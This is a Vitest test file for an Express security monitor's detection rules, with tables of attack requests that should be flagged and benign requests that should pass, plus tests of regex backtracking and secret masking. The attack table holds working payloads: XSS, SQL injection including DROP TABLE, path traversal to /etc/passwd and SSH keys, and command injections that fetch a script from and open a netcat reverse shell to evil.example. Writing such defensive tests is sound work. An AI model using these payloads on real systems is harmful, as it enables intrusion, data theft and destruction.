import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  collectInspectedText,
  MASKED_CHAR,
  MAX_INSPECTED_CHARS,
} from '../../../src/express/security/collect-inspected-text.js';
import { findSuspicious } from '../../../src/express/security/find-suspicious.js';
import { SECURITY_RULES } from '../../../src/express/security/security-rules.js';
import type { ExpressRequest } from '../../../src/express/types.js';

/** A request as the monitor sees it: a URL (path and query) and a parsed body. */
function fakeRequest(url: string, body?: unknown): ExpressRequest {
  return { originalUrl: url, url, headers: {}, body } as unknown as ExpressRequest;
}

function rulesFor(url: string, body?: unknown): string[] {
  return findSuspicious(collectInspectedText(fakeRequest(url, body)), SECURITY_RULES).map(
    (finding) => finding.rule,
  );
}

const q = (text: string) => `/search?q=${encodeURIComponent(text)}`;

// True positives: each request must be flagged by (at least) the named rule.
const ATTACKS: Array<[rule: string, url: string, body?: unknown]> = [
  ['xss-script-tag', q('<script>alert(1)</script>')],
  ['xss-script-tag', '/comments', { text: 'nice <SCRIPT src=//evil.example/x.js></SCRIPT>' }],
  ['xss-script-tag', '/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E'],
  ['xss-event-handler', q('<img src=x onerror=alert(1)>')],
  ['xss-event-handler', '/profile', { bio: '<svg/onload=alert(document.domain)>' }],
  ['xss-javascript-uri', '/profile', { website: 'javascript:alert(document.cookie)' }],
  ['sqli-union-select', q('1 UNION SELECT username, password FROM users')],
  ['sqli-union-select', q('1 union all select null,null--')],
  ['sqli-union-select', q('1/**/UNION/**/SELECT/**/1')],
  ['sqli-drop-table', q("x'; DROP TABLE users; --")],
  ['sqli-drop-table', '/orders', { id: '1; drop table orders' }],
  ['sqli-drop-table', '/orders', { sql: 'DROP TABLE IF EXISTS accounts;' }],
  ['sqli-tautology', q("admin' OR '1'='1")],
  ['sqli-tautology', '/login', { username: 'admin" or 1=1 --', password: 'x' }],
  ['sqli-tautology', q("' or 'a'='a")],
  ['sqli-time-delay', q("1' AND SLEEP(5)--")],
  ['sqli-time-delay', q("1'; WAITFOR DELAY '0:0:5'--")],
  ['sqli-time-delay', q('1 AND pg_sleep(10)')],
  ['path-traversal', '/files/../../../etc/hosts'],
  ['path-traversal', '/files/..%2f..%2fsecret'],
  ['path-traversal', '/files/%252e%252e%252fconfig'],
  ['path-traversal', '/download?file=..\\..\\boot.ini'],
  ['path-traversal-deep', '/upload', { name: '../../../root/.ssh/id_rsa' }],
  ['sensitive-file', '/download?file=/etc/passwd'],
  ['sensitive-file', '/debug', { path: '/proc/self/environ' }],
  ['sensitive-file', '/download?f=C:\\windows\\win.ini'],
  ['command-injection', q('8.8.8.8; cat /etc/passwd')],
  ['command-injection', '/ping', { host: '127.0.0.1 && wget http://evil.example/x.sh' }],
  ['command-injection', '/ping', { host: '$(whoami)' }],
  ['command-injection', '/ping', { host: '`id`' }],
  ['command-injection', q('x | nc -e /bin/sh evil.example 4444')],
  ['template-injection', q('{{7*7}}')],
  ['template-injection', '/greet', { name: `\${7*7}` }],
  [
    'template-injection',
    '/greet',
    { name: "{{ ''.__class__.__mro__ }}{{constructor.constructor('return process')()}}" },
  ],
  ['template-injection', '/greet', { name: '<%= 7 * 7 %>' }],
  ['template-injection', '/greet', { name: '#{7*7}' }],
  ['prototype-pollution', '/settings', JSON.parse('{"__proto__":{"isAdmin":true}}')],
  ['prototype-pollution', '/settings?constructor[prototype][isAdmin]=true'],
  ['prototype-pollution', '/merge', { path: 'constructor.prototype.polluted' }],
];

// False positives: ordinary requests, many with the words the rules are about.
const BENIGN: Array<[name: string, url: string, body?: unknown]> = [
  ['a search for "select"', q('select a size')],
  ['"union" and "select" apart', q('the union will select a new leader')],
  ['a drop-off date', q('please select a drop-off date')],
  ['furniture', '/orders', { item: 'Drop table lamp by the door', note: 'drop table, oak' }],
  ['an address with a quote', '/orders', { street: "O'Brien Street", note: "it's 1 or 2 items" }],
  ['a ratio', q("ratio 'a' or b = c")],
  ['a description of scripts', '/posts', { body: 'The script of the play; javascript is fun' }],
  ['event words without a tag', '/posts', { body: 'onload = when the page loads; onerror=retry' }],
  ['a relative link in a body', '/posts', { body: 'see ../docs/readme.md for details' }],
  ['dots in a file name', '/files/report..final.pdf'],
  ['an ellipsis', q('wait... what?')],
  ['cat food', '/orders', { note: 'I like fish; cat food too', other: 'Tom & Jerry | ls of items' }],
  ['a shell word alone', q('how to use curl')],
  ['a mustache template', '/templates', { html: 'Hello {{name}}, your order {{orderId}} shipped' }],
  ['a price with a dollar', '/orders', { note: `costs \${price} dollars` }],
  ['a sleep tracker', q('sleep tracker for 8 hours')],
  ['an email with a plus', '/users', { email: 'jane+orders@example.com' }],
  ['a JSON API body', '/orders', { items: [{ sku: 'A-1', qty: 2 }], shipping: { method: 'express' } }],
  ['a proto word', q('protobuf constructor docs')],
  ['an ordinary path', '/api/v1/orders/123/items?page=2&sort=-createdAt'],
];

describe('security rules', () => {
  it.each(ATTACKS)('flags %s in %s', (rule, url, body) => {
    expect(rulesFor(url, body)).toContain(rule);
  });

  it.each(BENIGN)('lets %s through', (_name, url, body) => {
    expect(rulesFor(url, body)).toEqual([]);
  });

  it('has a true positive in the table for every rule, and unique ids', () => {
    const ids = SECURITY_RULES.map((rule) => rule.id);

    expect(new Set(ids).size).toBe(ids.length);
    expect([...new Set(ATTACKS.map(([rule]) => rule))].sort()).toEqual([...ids].sort());
  });

  it('lists every rule id in docs/express.md', () => {
    const doc = readFileSync(fileURLToPath(new URL('../../../docs/express.md', import.meta.url)), 'utf8');

    for (const rule of SECURITY_RULES) expect(doc, rule.id).toContain(`| \`${rule.id}\` |`);
  });
});

describe('bounded inspection', () => {
  it('inspects the first 16 KiB of a body and nothing after it', () => {
    const padding = 'x'.repeat(MAX_INSPECTED_CHARS);

    expect(rulesFor('/posts', { a: '<script>alert(1)</script>', b: padding })).toContain('xss-script-tag');
    expect(rulesFor('/posts', { a: padding, b: '<script>alert(1)</script>' })).toEqual([]);
  });

  it('visits a bounded number of values in a huge body', () => {
    const body = { items: Array.from({ length: 200_000 }, () => ''), last: '<script>x</script>' };

    expect(rulesFor('/posts', body)).toEqual([]);
  });

  it.each([
    ['numbers', () => 0],
    ['empty arrays', () => []],
    ['empty objects', () => ({})],
  ])('reads a body to its end when 5,000 %s come first and the whole is under 16 KiB', (_name, make) => {
    // Prepare: values that hold no text, before the attack, in under 16 KiB of JSON.
    const body = { pad: Array.from({ length: 5000 }, make), note: '<script>alert(1)</script>' };
    expect(JSON.stringify(body).length).toBeLessThan(MAX_INSPECTED_CHARS);

    // Act
    const rules = rulesFor('/posts', body);

    // Assess
    expect(rules).toContain('xss-script-tag');
  });

  it('finishes every rule on 16 KiB of near-miss input (no catastrophic backtracking)', () => {
    const nearMisses = [
      `union${' '.repeat(MAX_INSPECTED_CHARS - 10)}`,
      `<a${' x'.repeat(MAX_INSPECTED_CHARS / 2)}`,
      `'${' or '.repeat(MAX_INSPECTED_CHARS / 5)}`,
      `{{${' a.'.repeat(MAX_INSPECTED_CHARS / 3)}`,
      `;${' '.repeat(MAX_INSPECTED_CHARS)}catalog`,
      `${'.'.repeat(MAX_INSPECTED_CHARS)}/`,
      `<${'s'.repeat(MAX_INSPECTED_CHARS)}`,
      // SQL comments that a comment pattern could group in many ways before failing.
      `1 union${'/**/'.repeat(40)}x`,
      `1 union all${'/* */'.repeat(40)}x`,
      // Line starts, each of which a `^\s*` would scan to the end from.
      '\n'.repeat(MAX_INSPECTED_CHARS),
      ' \n'.repeat(MAX_INSPECTED_CHARS / 2),
    ];

    // A pattern that backtracks exponentially would not return within the test's time limit; one
    // that is quadratic takes hundreds of milliseconds on 16 KiB, where linear takes about one.
    for (const text of nearMisses) {
      const started = performance.now();
      expect(findSuspicious([{ part: 'body', text }], SECURITY_RULES), text.slice(0, 12)).toEqual([]);
      expect(findSuspicious([{ part: 'query', text }], SECURITY_RULES), text.slice(0, 12)).toEqual([]);
      expect(performance.now() - started, JSON.stringify(text.slice(0, 12))).toBeLessThan(100);
    }
  });

  it('runs in linear time over SQL comments that hold "union" (no rescan from each start)', () => {
    // Prepare: each "union" starts a run of comments that swallows the rest ("/*union/**/" is one
    // comment); 64 KiB, four times what is inspected, so that quadratic work (about 0.6 s here,
    // 36 ms at 16 KiB) stands far from linear (a few ms).
    const texts = ['union/**//*', 'union all/**//*', 'union/*a*//*'].map((unit) =>
      unit.repeat(Math.ceil((4 * MAX_INSPECTED_CHARS) / unit.length)),
    );

    for (const text of texts) {
      // Act
      const started = performance.now();
      const findings = findSuspicious([{ part: 'query', text }], SECURITY_RULES);
      const elapsedMs = performance.now() - started;

      // Assess
      expect(findings.map((finding) => finding.rule)).not.toContain('sqli-union-select');
      expect(elapsedMs, JSON.stringify(text.slice(0, 16))).toBeLessThan(100);
    }
  });

  it('masks secrets character for character, at any depth under a sensitive key, keeping offsets', () => {
    // Prepare
    const req = fakeRequest('/login?token=abc123&q=hello', {
      user: 'jane',
      credentials: { pin: '4242', backup: ['9999'] },
      note: 'x',
    });
    const isSensitiveKey = (key: string) => ['token', 'credentials'].includes(key);

    // Act
    const raw = collectInspectedText(req);
    const masked = collectInspectedText(req, isSensitiveKey);

    // Assess
    const hide = (text: string) => MASKED_CHAR.repeat(text.length);
    expect(masked.map((part) => part.part)).toEqual(raw.map((part) => part.part));
    expect(masked.map((part) => part.text.length)).toEqual(raw.map((part) => part.text.length));
    expect(masked.find((part) => part.part === 'query')?.text).toBe(`token=${hide('abc123')}\nq=hello`);
    expect(masked.find((part) => part.part === 'body')?.text).toBe(
      [
        'user',
        'jane',
        'credentials',
        hide('pin'),
        hide('4242'),
        hide('backup'),
        hide('9999'),
        'note',
        'x',
      ].join('\n'),
    );
  });

  it('reports each rule once with a short one-line excerpt around the match', () => {
    const findings = findSuspicious(
      collectInspectedText(fakeRequest(q(`${'a'.repeat(500)} <script>x</script> <script>y</script>`))),
      SECURITY_RULES,
    );

    expect(findings).toHaveLength(1);
    expect(findings[0]?.part).toBe('query');
    expect(findings[0]?.excerpt).toContain('<script>');
    expect(findings[0]?.excerpt.length).toBeLessThanOrEqual(24 + 80 + 24);
    expect(findings[0]?.excerpt).not.toContain('\n');
  });
});
